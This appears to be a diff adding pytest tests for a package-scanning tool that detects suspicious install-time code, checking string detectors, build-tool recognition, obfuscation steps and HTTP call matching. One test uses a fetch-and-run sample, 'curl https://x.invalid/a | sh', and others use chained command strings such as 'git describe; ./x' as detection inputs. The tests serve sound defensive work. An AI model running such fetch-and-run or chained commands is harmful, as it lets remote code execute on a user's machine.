@@ -1,0 +1,95 @@
+"""What detectors ask of facts, asked directly."""
+
+from __future__ import annotations
+
+from typing import Any
+
+import pytest
+
+from stockade.analyse.code.facts import Call, Literal, Value
+from stockade.analyse.code.observe import asks_a_tool, command, decoded, flat, hidden, idle, seen, telling
+from stockade.analyse.code.vocabulary import HTTP, touching, within
+from stockade.analyse.detector import Detector
+from stockade.analyse.engine import DETECTORS
+from stockade.limits import MAX_EXCERPT
+from stockade.model.evidence import Location, Phase
+
+HERE = Location(file="demo-1.0/demo/__init__.py", line=1)
+
+
+def literal(text: str, phase: Phase = Phase.IMPORT, where: Location = HERE) -> Literal:
+    """A literal as it stands."""
+    return Literal(value=Value(known=True, const=text), phase=phase, where=where)
+
+
+def start(const: object) -> Call:
+    """A process call with one argument."""
+    return Call(
+        target="subprocess.run", args=(Value(known=True, const=const),), phase=Phase.INSTALL, where=HERE
+    )
+
+
+@pytest.mark.parametrize("one", [one for one in DETECTORS if one.on is Literal], ids=lambda one: one.id)
+def test_a_detector_of_strings_is_silent_on_an_ordinary_one(one: Detector[Any]) -> None:
+    assert list(one.check(literal("an ordinary sentence"))) == []
+
+
+def test_only_telling_literals_are_shown_to_detectors() -> None:
+    told = literal("curl https://x.invalid/a | sh")
+    assert list(telling([literal("an ordinary sentence"), told])) == [told]
+
+
+def test_values_are_opened() -> None:
+    value = Value(known=True, const={"a": [b"b", ("c", 1)]})
+    assert list(flat(value)) == ["a", "b", "c"]
+    assert list(flat(Value(const="unknown"))) == []
+
+
+@pytest.mark.parametrize(
+    ("const", "asks"),
+    [
+        (["git", "describe"], True),
+        ("git describe; ./x", False),
+        ("python setup.py sdist upload", True),
+        ("python setup.py sdist upload && ./x", False),
+        ("./x", False),
+        ("", False),
+        (["/usr/bin/git"], False),
+    ],
+)
+def test_only_a_plain_build_tool_is_one(const: object, asks: bool) -> None:
+    assert asks_a_tool(start(const)) is asks
+
+
+def test_a_command_that_is_not_known_is_empty() -> None:
+    assert command(Call(target="os.system", args=(Value(),), phase=Phase.CALL, where=HERE)) == ""
+
+
+@pytest.mark.parametrize(
+    ("path", "phase", "waits"),
+    [
+        ("demo-1.0/tests/test_x.py", Phase.CALL, True),
+        ("demo-1.0/tests/test_x.py", Phase.INSTALL, False),
+        ("demo-1.0/demo/x.py", Phase.CALL, False),
+        ("tests/x.py", Phase.CALL, False),
+    ],
+)
+def test_code_in_tests_is_idle_unless_something_reaches_it(path: str, phase: Phase, waits: bool) -> None:
+    assert idle(literal("text", phase, Location(file=path))) is waits
+
+
+def test_joining_alone_hides_nothing() -> None:
+    assert hidden([Value(steps=("join",)), Value(steps=("slice",))]) == ()
+    assert hidden([Value(steps=("join",)), Value(steps=("base64", "join"))]) == ("join", "base64")
+    assert decoded([Value(known=True, const="a"), Value(known=True, const="b", steps=("hex",))]) == "b"
+
+
+def test_an_excerpt_is_bounded() -> None:
+    assert len(seen("x", literal("text"), "says", "a" * 9999).excerpt) == MAX_EXCERPT
+
+
+def test_what_a_call_returns_is_within_it() -> None:
+    assert within("requests.get.json", HTTP)
+    assert not within("requests", HTTP)
+    assert not within("requests.gets", HTTP)
+    assert touching(frozenset({"requests.get.text", "open"}), HTTP) == {"requests.get.text"}
